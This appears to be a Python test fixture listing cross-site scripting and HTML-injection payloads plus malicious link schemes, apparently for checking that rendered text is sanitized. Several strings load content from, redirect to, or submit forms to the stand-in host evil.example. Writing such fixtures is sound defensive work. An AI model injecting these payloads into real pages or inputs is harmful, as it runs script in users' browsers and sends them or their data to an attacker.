"""Text that would run or restyle a page that shows it as more than text."""

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    "</title></textarea></style></template><script>alert(1)</script>",
    "<style>*{display:none!important}</style>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<base href=https://evil.example/>",
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<form action=https://evil.example/><button>Ask</button></form>",
    '<a href="javascript:alert(1)">open</a>',
    "{{ 7 * 7 }}{% include 'x' %}${7*7}<%= 7*7 %>",
    "]]><!--<script>alert(1)//-->",
    "<math><mtext></p><style><!--</style><img src=x onerror=alert(1)>",
    "<object data=https://evil.example/x></object><embed src=https://evil.example/x>",
    "\u202e<script>alert(1)</script>\u2066",
    "![x](https://evil.example/x.png) [x](javascript:alert(1)) <javascript:alert(1)>",
    "background:url(https://evil.example/x)",
    "\x00<scr\x00ipt>alert(1)</script>",
]
ALL = " ".join(PAYLOADS)
LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://a.example",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "https://a.example/\"onmouseover='alert(1)'",
    "//evil.example/",
    "https://evil.example@[::1",
]
